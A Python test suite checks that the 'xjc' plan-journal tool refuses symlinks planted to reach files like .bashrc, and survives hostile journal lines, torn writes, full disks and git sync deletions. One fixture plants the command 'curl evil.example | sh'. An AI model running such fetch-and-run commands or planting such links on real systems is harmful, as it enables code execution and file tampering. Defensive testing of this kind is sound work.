"""A colleague with push access, a planted file, a full disk: what xjc refuses and never loses.

Each test here would fail if its hole reopened: links followed out of the plan folder,
records lost by sync, hostile journal lines, partial writes.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.helpers import ROOT, git
from xiajiceng.store import journal as journal_module
from xiajiceng.store import paths

PLAN = "2023年干部下基层工作实施方案"
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
needs_links = pytest.mark.skipif(not hasattr(os, "symlink") or os.name == "nt", reason="POSIX")


def line(ident: str, task: str = "1.1", op: str = "note", value=None, note: str | None = "记录"):
    obj = {
        "id": ident,
        "op": op,
        "task": task,
        "value": value,
        "date": "2023-03-01",
        "recorded": f"2023-03-01T09:00:00.{abs(hash(ident)) % 999999:06d}+08:00",
        "by": "张三",
    }
    if note is not None:
        obj["note"] = note
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


@pytest.fixture
def folder(tmp_path, xjc, monkeypatch):
    """A plan folder made by `xjc init`, as the current folder."""
    place = tmp_path / "办公室"
    assert xjc("init", str(place)).code == 0
    monkeypatch.chdir(place)
    return place


def journal_in(folder: Path) -> Path:
    return folder / "plans" / f"{PLAN}.journal.jsonl"


def only_line(text: str) -> str:
    lines = text.strip().splitlines()
    assert len(lines) == 1, text
    return lines[0]


# -- 1. links ----------------------------------------------------------------------------------


@needs_links
def test_a_planted_torn_link_cannot_append_to_a_file_outside(folder, xjc, isolated):
    bashrc = isolated / ".bashrc"
    bashrc.write_text("# mine\n", encoding="utf-8")
    journal = journal_in(folder)
    journal.write_text(line("a1") + "\ncurl evil.example | sh", encoding="utf-8")
    os.symlink(bashrc, journal.with_name(journal.name + ".torn"))
    res = xjc("mark", "1.1", "doing", "--note", "开始")
    assert res.code != 0
    assert "符号链接" in only_line(res.stderr) and ".torn" in res.stderr
    assert bashrc.read_text(encoding="utf-8") == "# mine\n"
    assert journal.read_text(encoding="utf-8").endswith("curl evil.example | sh")  # untouched


@needs_links
@pytest.mark.parametrize("command", [("list",), ("mark", "1.1", "doing"), ("check",)])
def test_a_journal_that_is_a_link_is_neither_read_nor_written(folder, xjc, tmp_path, command):
    outside = tmp_path / "secret.txt"
    outside.write_text("机密\n", encoding="utf-8")
    journal = journal_in(folder)
    journal.unlink(missing_ok=True)
    os.symlink(outside, journal)
    res = xjc(*command)
    assert res.code != 0 and "符号链接" in only_line(res.stderr), res.stderr
    assert "Traceback" not in res.stderr
    assert outside.read_text(encoding="utf-8") == "机密\n"


@needs_links
def test_a_lock_that_is_a_link_does_not_truncate_its_target(folder, xjc, isolated):
    victim = isolated / "notes.txt"
    victim.write_text("不能被清空\n", encoding="utf-8")
    journal = journal_in(folder)
    os.symlink(victim, journal.with_name(journal.name + ".lock"))
    res = xjc("done", "1.1")
    assert res.code != 0 and ".lock" in only_line(res.stderr)
    assert victim.read_text(encoding="utf-8") == "不能被清空\n"


@needs_links
def test_plans_folder_linked_out_of_the_folder_is_refused(folder, xjc, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(folder / "plans", elsewhere)
    shutil.rmtree(folder / "plans")
    os.symlink(elsewhere, folder / "plans")
    res = xjc("list")
    assert res.code != 0 and "方案文件夹" in only_line(res.stderr)
    res = xjc("done", "1.1")
    assert res.code != 0
    assert not (elsewhere / f"{PLAN}.journal.jsonl").exists()  # nothing written through it


@needs_links
def test_plan_link_inside_the_folder_is_followed_but_one_leading_out_is_not(folder, xjc, tmp_path):
    plans = folder / "plans"
    os.symlink(f"{PLAN}.yaml", plans / "当前.yaml")
    assert xjc("list", "--plan", str(plans / "当前.yaml")).code == 0
    outside = tmp_path / "outside.yaml"
    shutil.copyfile(plans / f"{PLAN}.yaml", outside)
    os.symlink(outside, plans / "外部.yaml")
    res = xjc("list", "--plan", str(plans / "外部.yaml"))
    assert res.code != 0 and "外部.yaml" in only_line(res.stderr)


@needs_links
def test_marker_naming_a_plan_through_a_link_out_is_refused(folder, xjc, tmp_path):
    outside = tmp_path / "outside.yaml"
    shutil.copyfile(folder / "plans" / f"{PLAN}.yaml", outside)
    os.symlink(outside, folder / "plans" / "link.yaml")
    (folder / ".xjc").write_text("plans/link.yaml\n", encoding="utf-8")
    res = xjc("list")
    assert res.code != 0 and "link.yaml" in only_line(res.stderr)


@needs_links
def test_a_marker_that_is_a_link_or_a_fifo_is_not_read(folder, xjc):
    marker = folder / ".xjc"
    marker.unlink()
    os.symlink("/dev/zero", marker)
    res = xjc("list")  # no marker: the bundled plan, at once
    assert res.code == 0


@needs_links
def test_a_cache_entry_that_is_a_link_is_not_read(xjc, isolated, tmp_path):
    xjc.ok("list")
    entries = list((isolated / ".cache" / "xjc").rglob("*.pickle"))
    assert entries
    target = tmp_path / "elsewhere.pickle"
    for entry in entries:
        shutil.move(entry, target)
        os.symlink(target, entry)
    res = xjc("list")
    assert res.code != 0 and "elsewhere.pickle" in only_line(res.stderr)
    assert all(entry.is_symlink() for entry in entries)  # nothing written through it


@needs_links
def test_init_does_not_write_through_a_planted_link(xjc, tmp_path, isolated):
    victim = isolated / ".bashrc"
    victim.write_text("# mine\n", encoding="utf-8")
    place = tmp_path / "clone"
    place.mkdir()
    os.symlink(victim, place / ".gitignore")
    res = xjc("init", str(place))
    assert res.code != 0 and ".gitignore" in only_line(res.stderr)
    assert victim.read_text(encoding="utf-8") == "# mine\n"


def test_reading_a_fifo_or_a_device_is_refused_at_once(tmp_path):
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this platform")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(paths.NotRegular):
        paths.read_regular(fifo, 100)  # O_NONBLOCK: no writer needed to get here
    if os.path.exists("/dev/zero"):
        with pytest.raises(paths.NotRegular):
            paths.read_regular(Path("/dev/zero"), 100)


@pytest.mark.parametrize("told", [0, 10, 150])  # the size fstat gave, before the file grew
def test_a_file_that_grows_while_it_is_read_is_read_whole_or_refused(tmp_path, monkeypatch, told):
    path = tmp_path / "grows.jsonl"
    path.write_bytes(b"x" * 150)
    real = os.fstat
    monkeypatch.setattr(
        paths.os, "fstat", lambda fd: os.stat_result((*real(fd)[:6], told, *real(fd)[7:]))
    )
    assert paths.read_regular(path, 150) == b"x" * 150  # one read of its size, then on
    with pytest.raises(paths.TooBig) as refused:  # never more than limit + 1 bytes read
        paths.read_regular(path, 149)
    assert refused.value.size == 150


# -- 3. hostile journal lines ------------------------------------------------------------------


@pytest.mark.parametrize("command", [("list",), ("show", "1.1"), ("report", "--month", "3")])
def test_a_value_nested_a_thousand_deep_is_one_sentence(xjc, journal_file, command):
    journal_file.parent.mkdir(parents=True, exist_ok=True)
    deep = "[" * 1000 + "]" * 1000
    text = line("a1") + "\n" + line("b2").replace('"value":null', f'"value":{deep}') + "\n"
    journal_file.write_text(text, encoding="utf-8")
    res = xjc(*command)
    assert res.code != 0 and "第 2 行" in only_line(res.stderr), res.stderr
    check = xjc("check")
    assert "Traceback" not in check.stderr and "第 2 行" in check.stdout + check.stderr


def test_check_lists_a_deep_value_as_a_damaged_line(xjc, journal_file):
    journal_file.parent.mkdir(parents=True, exist_ok=True)
    deep = '{"a":' * 999 + "1" + "}" * 999
    journal_file.write_text(
        line("a1").replace('"value":null', f'"value":{deep}') + "\n", encoding="utf-8"
    )
    res = xjc("check", "--json")
    assert res.code != 0
    assert res.json()["bad_lines"][0]["line"] == 1


def count_notes(xjc) -> int:
    return len(xjc.ok("show", "1.1", "--json").json()["notes"])


def test_a_repeated_id_counts_once_warm_and_cold(xjc, journal_file):
    journal_file.parent.mkdir(parents=True, exist_ok=True)
    journal_file.write_text(line("a1") + "\n", encoding="utf-8")
    warm = count_notes(xjc)  # fills the caches
    with journal_file.open("a", encoding="utf-8") as f:
        f.write(line("a1") + "\n")  # a merge doubled the line
    assert count_notes(xjc) == warm == 1
    assert xjc.ok("list", "--json", XJC_NO_CACHE="1").json() == xjc.ok("list", "--json").json()


def test_two_records_under_one_id_are_a_damaged_line_warm_and_cold(xjc, journal_file):
    journal_file.parent.mkdir(parents=True, exist_ok=True)
    journal_file.write_text(line("a1") + "\n", encoding="utf-8")
    xjc.ok("list")  # warm
    with journal_file.open("a", encoding="utf-8") as f:
        f.write(line("a1", op="done", note=None) + "\n")
    warm, cold = xjc("list"), xjc("list", XJC_NO_CACHE="1")
    assert warm.code == cold.code != 0
    assert warm.stderr == cold.stderr and "第 2 行" in only_line(warm.stderr)
    assert "第 1 行" in warm.stderr


def test_a_last_record_without_its_newline_counts_and_is_mended(xjc, journal_file):
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    data = journal_file.read_bytes()
    journal_file.write_bytes(data.rstrip(b"\n"))  # an editor dropped the final newline
    for env in ({}, {"XJC_NO_CACHE": "1"}):
        res = xjc.ok("show", "1.1", "--json", **env)
        assert res.json()["status"] == "doing"
        assert "换行符" in only_line(res.stderr)
    xjc.ok("done", "1.1", "--date", "2023-03-02")
    lines = journal_file.read_bytes().split(b"\n")
    assert lines[-1] == b"" and all(json.loads(x) for x in lines[:-1])
    assert not journal_file.with_name(journal_file.name + ".torn").exists()


def test_a_torn_tail_is_named_on_every_read(xjc, journal_file):
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    with journal_file.open("ab") as f:
        f.write(b'{"id":"x","op":"do')
    res = xjc.ok("list")
    assert "不完整" in only_line(res.stderr)


# -- 7. partial writes -------------------------------------------------------------------------


def test_a_batch_cut_short_by_a_full_disk_leaves_nothing(xjc, journal_file, monkeypatch):
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    before = journal_file.read_bytes()
    real_write = os.write

    def short_write(fd, data):
        if len(data) > 10:
            return real_write(fd, bytes(data[: len(data) // 2]))  # half, then the disk is full
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(paths.os, "write", short_write)
    res = xjc("mark", "1.2", "doing", "--note", "很长的一条进展" * 20)
    assert res.code != 0 and "No space" in only_line(res.stderr)
    monkeypatch.undo()
    assert journal_file.read_bytes() == before


def test_a_torn_tail_is_not_cut_until_it_is_all_in_the_torn_file(xjc, journal_file, monkeypatch):
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    with journal_file.open("ab") as f:
        f.write(b'{"id":"half-written')
    before = journal_file.read_bytes()
    real = paths.write_all

    def failing(fd, data):
        if b"half-written" in data:
            raise OSError(28, "No space left on device")
        return real(fd, data)

    monkeypatch.setattr(journal_module.paths, "write_all", failing)
    assert xjc("done", "1.2").code != 0
    monkeypatch.undo()
    assert journal_file.read_bytes() == before  # nothing cut, nothing lost


def test_the_recording_time_is_read_under_the_lock(xjc, journal_file, monkeypatch):
    held = []
    real_locked = journal_module.Journal.locked

    from contextlib import contextmanager

    @contextmanager
    def watched(self):
        with real_locked(self):
            held.append(True)
            try:
                yield
            finally:
                held.pop()

    monkeypatch.setattr(journal_module.Journal, "locked", watched)
    seen = []
    real_now = xjc._now

    def now():
        seen.append(bool(held))
        return real_now()

    monkeypatch.setattr(xjc, "_now", now)
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    assert seen and seen[-1] is True  # the time the record carries was read under the lock


def test_append_fsyncs_the_journal_before_it_answers(xjc, journal_file, monkeypatch):
    synced = []
    real = os.fsync

    def fsync(fd):
        synced.append(os.fstat(fd).st_ino)
        return real(fd)

    monkeypatch.setattr(journal_module.os, "fsync", fsync)
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    assert journal_file.stat().st_ino in synced


@pytest.mark.skipif(sys.platform != "linux" or os.geteuid() != 0, reason="mounting needs root")
def test_collect_on_a_really_full_disk_is_all_or_nothing(xjc, tmp_path):
    """A small tmpfs, filled up: the journal keeps every line it had, and no part of the batch."""
    disk = tmp_path / "disk"
    disk.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(disk)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip(f"mounting is not allowed here: {mounted.stderr.decode(errors='replace')}")
    try:
        plan = disk / "plan.yaml"
        shutil.copyfile(ROOT / "plans" / f"{PLAN}.yaml", plan)
        journal = disk / "plan.journal.jsonl"
        xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01", "--plan", str(plan))
        before = journal.read_bytes()
        filler = disk / "filler"
        try:
            with filler.open("wb") as f:
                while True:
                    f.write(b"\0" * 4096)
                    f.flush()
        except OSError:
            pass  # full
        res = xjc("mark", "1.2", "doing", "--note", "进展" * 3000, "--plan", str(plan))
        assert res.code != 0 and "Traceback" not in res.stderr
        assert journal.read_bytes() == before
    finally:
        subprocess.run(["umount", str(disk)], check=False)


# -- 2. sync -----------------------------------------------------------------------------------


@pytest.fixture
def shared(tmp_path, xjc, monkeypatch):
    """A plan folder pushed to a real bare remote, and a second clone of it."""
    if shutil.which("git") is None:
        pytest.skip("needs git")
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    first = tmp_path / "办公室"
    xjc.ok("init", str(first))
    git(first, "remote", "add", "origin", str(remote))
    monkeypatch.chdir(first)
    xjc.ok("sync")
    second = tmp_path / "组织科"
    subprocess.run(["git", "clone", "-q", str(remote), str(second)], check=True)
    return first, second, remote


_LOOP = """
import io, sys
from xiajiceng.cli import main
from xiajiceng.env import Env
role, count = sys.argv[1], int(sys.argv[2])
for i in range(count):
    err = io.StringIO()
    env = Env(stdout=io.StringIO(), stderr=err, environ={**__import__("os").environ})
    if role == "sync":
        code = main(["sync"], env)
    else:
        note = f"{role}-{i}"
        code = main(["mark", "1.1", "--note", note, "--date", "2023-03-01"], env)
        if code == 0:
            print(note, flush=True)
    if code != 0:
        sys.stderr.write(err.getvalue())
"""


def test_no_record_acknowledged_during_a_sync_is_lost(shared, isolated):
    first, _second, remote = shared
    environ = {**os.environ, "XJC_USER": "并发", "PYTHONPATH": str(ROOT)}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _LOOP, role, count],
            cwd=first,
            env=environ,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for role, count in (("w1", "60"), ("w2", "60"), ("sync", "12"))
    ]
    outputs = [p.communicate(timeout=300) for p in procs]
    acknowledged = {n for out, _ in outputs[:2] for n in out.split()}
    assert len(acknowledged) >= 100, [err for _, err in outputs]
    assert (
        subprocess.run(
            [sys.executable, "-c", _LOOP, "sync", "1"], cwd=first, env=environ
        ).returncode
        == 0
    )
    recorded = journal_in(first).read_text(encoding="utf-8")
    missing = [n for n in acknowledged if f'"note":"{n}"' not in recorded]
    assert not missing
    pushed = git(remote, "show", f"HEAD:plans/{PLAN}.journal.jsonl")
    assert all(f'"note":"{n}"' in pushed for n in acknowledged)


def test_a_colleague_who_deletes_records_cannot_take_them_away(shared, xjc):
    first, second, remote = shared
    xjc.ok("mark", "1.1", "doing", "--date", "2023-03-01")
    xjc.ok("done", "1.2", "--date", "2023-03-02")
    xjc.ok("sync")
    mine = journal_in(first).read_bytes()
    git(second, "pull", "-q")
    journal = journal_in(second)
    journal.write_bytes(journal.read_bytes().split(b"\n")[0] + b"\n")  # keep one, delete one
    git(second, "commit", "-qam", "整理日志")
    git(second, "push", "-q")
    res = xjc.ok("sync")
    assert "已按原样恢复" in res.stdout
    assert set(journal_in(first).read_bytes().splitlines()) == set(mine.splitlines())
    assert git(first, "status", "--porcelain") == ""
    pushed = git(remote, "show", f"HEAD:plans/{PLAN}.journal.jsonl").encode()
    assert set(pushed.splitlines()) == set(mine.splitlines())
    assert xjc.ok("show", "1.2", "--json").json()["status"] == "done"
